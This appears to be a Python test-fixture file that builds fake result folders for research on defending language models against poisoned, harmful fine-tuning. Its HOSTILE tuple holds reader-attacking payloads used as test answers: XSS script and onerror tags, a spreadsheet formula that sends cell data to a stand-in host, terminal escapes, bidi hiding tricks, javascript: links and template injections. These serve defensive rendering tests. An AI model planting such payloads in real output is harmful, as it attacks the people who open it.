"""Folders of a comparison, runs and a sweep as the commands leave them, with answers that try to do harm to who reads them."""

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

from panacea_jax.comparison.results import Measured, row
from panacea_jax.config import get_config
from panacea_jax.defences.spec import parse_stack, slug
from panacea_jax.evaluate.lines import digest
from panacea_jax.records.judged import load_judged
from panacea_jax.workdir import StageFolder, plain, write_json
from tests.evaluate.workdirs import write_lines

HOSTILE = (
    "<script>document.title = 'taken'; alert(1)</script>",
    "</script><img src=x onerror=\"document.title='taken'\"><svg onload=alert(2)>",
    '=HYPERLINK("http://invented.invalid/?"&A1, "wug")',
    "\x1b]0;taken\x07\x1b[2J\x1b[31mred",
    "safe \u202egnihton si siht\u202c \u2066\u200bhidden\u2069",
    "[wug](javascript:alert(3)) ![blick](http://invented.invalid/x.png) `code` | cell",
    "<style>body { display: none }</style><base href='http://invented.invalid/'>",
    "{{ 7 * 7 }} {% raw %} ${alert(4)}",
)
"""Answers of invented words: script tags, a formula, terminal sequences, bidi marks, Markdown, styles and templates."""
RHO, LAM = (0.1, 0.5, 1.0), (0.001, 0.01)
METHODS = ("sft", *(f"panacea:rho={rho},lam={lam}" for rho in RHO for lam in LAM), "antidote:dense_ratio=0.1")
RATIOS, SEEDS = (0.1, 0.3), (0, 1)


def write_stage(workdir: Path, stage: str, changed: Mapping[str, Any], outcome: Mapping[str, Any], **inputs: str) -> Path:
    """A finished stage with its manifest; returns its folder."""
    config = get_config()
    with config.unlocked():
        config.update_from_flattened_dict({"model.path": "invented/base", **changed})
    sections = ("model", "lora", "data", "defence", "optimizer", "train", "export", "seed")
    held = {key: plain(config)[key] for key in sections}
    with StageFolder(workdir, stage, held, inputs) as folder:
        folder.begin()
        folder.finish(outcome)
    return folder.folder


def write_metrics(stage: Path, start: float, **more: float) -> None:
    """A falling loss over ten logged steps, and a value that was not finite."""
    rows = [{"step": 10 * (i + 1), "loss": start / (i + 1), "cos_gh": 0.1 * i, "step_seconds": 0.5, **more} for i in range(10)]
    write_lines(stage / "metrics.jsonl", [*rows, {"step": 110, "loss": None}, {"step": 110, "validation_loss": 0.5}])


def write_answers(folder: Path, hs: int, fa: int, judges: Sequence[str] = ("refusal",), asked: str = "") -> None:
    """Ten harmful requests of which so many are answered, and ten tasks of which so many are right; verdicts and scores."""
    config = {
        "model": {"path": "invented/base", "dtype": "float32"}, "adapter": "invented/adapter", "template": "alpaca",
        "eval": {"tasks": ["advbench@goals.jsonl", "gsm8k@test.jsonl"], "num_examples": 0},
        "decoding": {"max_new_tokens": 8, "cache_dtype": "auto", "merge": False, "temperature": 0.0},
    }  # fmt: skip
    with StageFolder(folder, "generations", config, {}) as stage:
        stage.begin()
        stage.finish({})
    for start, name in enumerate(("advbench", "gsm8k")):
        texts = [HOSTILE[(5 * start + i) % len(HOSTILE)] for i in range(10)]
        lines = [
            {"prompt": f"<p{i}>", "instruction": f"{HOSTILE[-1]} {asked}{i}", "input": "", "response": text, "finished": True,
             "reference": "4", "template": "alpaca-1", "extra": {}}
            for i, text in enumerate(texts)
        ]  # fmt: skip
        write_lines(folder / "generations" / f"{name}.jsonl", lines)
        for number, judge in enumerate(judges):
            verdicts = [
                {"flagged": name == "advbench" and (i + number) % 10 < hs, "refused": i >= hs, "incoherent": False,
                 "correct": i < fa if name == "gsm8k" else None, "scores": {}, "version": "1",
                 "digest": digest(line["prompt"], line["response"])}
                for i, line in enumerate(lines)
            ]  # fmt: skip
            write_lines(folder / "judgements" / f"{name}.{judge}.jsonl", verdicts)
    write_json(folder / "scores.json", load_judged(folder)[judges[0]].scores())


def write_run(folder: Path, hs: int, fa: int, defence: str = "panacea", **changed: Any) -> Path:
    """A run with one stage of training, answers and scores."""
    values = {"defence.name": defence, "data.user": "gsm8k@user.jsonl", "data.attack": "pairs@attack.jsonl", **changed}
    stage = write_stage(folder, "finetune", values, {"steps": 100, "step_bytes": 2**20, "warnings": []}, user="0" * 64)
    write_metrics(stage, 2.0)
    write_answers(folder, hs, fa)
    return folder


def write_layers(folder: Path, layers: int) -> None:
    """Coefficients whose shares fall from layer to layer: of 10 parts 4, 3, 2 and 1 with four layers, half of each in q and in v."""
    total = layers * (layers + 1) / 2
    rows = [
        {"layer": l, "norm": share**0.5, "share": share, "density": share, "effective": None,
         "modules": {name: {"norm": (share / 2) ** 0.5, "share": share / 2} for name in ("q_proj", "v_proj")}}
        for l in range(layers)
        for share in [(layers - l) / total]
    ]  # fmt: skip
    (folder / "layers.json").write_text(json.dumps({"epsilon": "mean", "layers": rows, "outside": None}))


def measured(hs: int, fa: int, passes: float) -> Measured:
    """Of ten prompts each."""
    events = {
        "hs": [i < hs for i in range(10)], "hs_plus": [i < hs for i in range(10)], "fa": [i < fa for i in range(10)],
        "benign": [i < 10 - hs // 3 for i in range(10)],
    }  # fmt: skip
    return Measured(events, {"finetune": 100}, {"finetune": 100 * passes}, {"finetune": 0.0}, passes, {"finetune": 2**20}, ())


def counts(method: str, ratio: float, seed: int) -> tuple[int, int]:
    """Harmful answers and right answers of ten."""
    place = METHODS.index(method)
    return max(9 - place + int(10 * ratio) - seed, 0), max(9 - place // 2 - seed, 1)


def write_compared(root: Path) -> Path:
    """Eight methods, two of whose numbers form a grid, at two ratios and seeds."""
    passes = {method: 1.0 if method == "sft" else 3.0 for method in METHODS}
    found = {
        (m, p): {seed: measured(*counts(m, p, seed), passes[m]) for seed in SEEDS} for m in METHODS for p in RATIOS
    }  # fmt: skip
    stacks = {method: parse_stack(method, "test") for method in METHODS}
    before = row(stacks["sft"], None, {seed: measured(0, 2, 1.0) for seed in SEEDS}, None)
    rows = [before] + [row(stacks[m], p, found[m, p], found["sft", p]) for p in RATIOS for m in METHODS]
    root.mkdir(parents=True, exist_ok=True)
    write_json(root / "compare.json", {
        "methods": list(METHODS), "seeds": list(SEEDS), "ratios": list(RATIOS), "world": "", "judge": "refusal", "memory": "",
        "development": [], "rule": "", "grid": [], "guard": {"0": True, "1": False}, "bounds": "HS at most 2", "rows": rows,
    })  # fmt: skip
    (root / "compare.md").write_text("| a |\n| --- |\n\n* Judge refusal. Of two seeds.\n")
    for seed in SEEDS:
        for method in METHODS[:3]:
            write_cell(root, method, seed, RATIOS[0])
    return root


def write_cell(root: Path, method: str, seed: int, ratio: float) -> None:
    """One cell with a stage of training and answers."""
    place = f"shared/seed{seed}/unaligned/p{ratio:g}/{slug(method)}"
    changed = {"seed": seed, "data.poison_ratio": ratio, "data.user": "pairs@user.jsonl", "data.attack": "pairs@attack.jsonl"}
    name, _, settings = method.partition(":")
    numbers = {f"defence.{key}": float(value) for key, value in (s.split("=") for s in settings.split(",") if s)}
    warnings = ["step 50: invented <b>warning</b>"] if name != "sft" else []
    outcome = {"steps": 100, "warnings": warnings}
    stage = write_stage(root / place, "finetune", changed | {"defence.name": name} | numbers, outcome, user="1" * 64)
    write_metrics(stage, 3.0 + seed, **({"harmful_loss": 0.5} if name != "sft" else {}))
    cell = root / "cells" / slug(method) / f"seed{seed}-p{ratio:g}"
    # Where seeds are worlds, their prompts are others.
    write_answers(cell, *counts(method, ratio, seed), judges=("refusal", "strict"), asked=f"world {seed}, ")
    write_layers(cell, 4)
    note = {"method": method, "seed": seed, "ratio": ratio, "stages": {"finetune": f"{place}/finetune"}, "config_sha256": ""}
    (cell / "cell.json").write_text(json.dumps(note))


def write_swept(root: Path) -> Path:
    """A sweep over ρ, λ and the learning rate, of which one run failed; the runs of one row are there."""
    rows: list[dict[str, Any]] = []
    for number, (rho, lam, rate) in enumerate((r, l, x) for r in RHO for l in LAM for x in (1e-4, 1e-3)):
        setting = {"defence.rho": rho, "defence.lam": lam, "optimizer.learning_rate": rate}
        found = {"mean": 5.0 * number, "ci95": [max(5.0 * number - 5, 0.0), 5.0 * number + 5], "by_seed": {"0": 5.0 * number}}
        rows.append({
            "setting": setting, "folders": {"0": f"runs/{number:012x}"}, "status": "done", "figures": {"hs": found, "fa": found},
            "passes": 300.0, "step_seconds": 10.0, "step_bytes": 2**21, "best": number == 0, "front": number < 2,
        })  # fmt: skip
    rows[-1] = {key: rows[-1][key] for key in ("setting", "folders")} | {"status": "failed", "error": "diverged at step 3"}
    write_run(root / rows[0]["folders"]["0"], 0, 0)
    write_json(root / "sweep.json", {
        "over": [], "sampler": "grid", "objectives": ["hs", "fa"], "judge": "refusal", "rule": "the lowest", "rows": rows,
    })  # fmt: skip
    return root
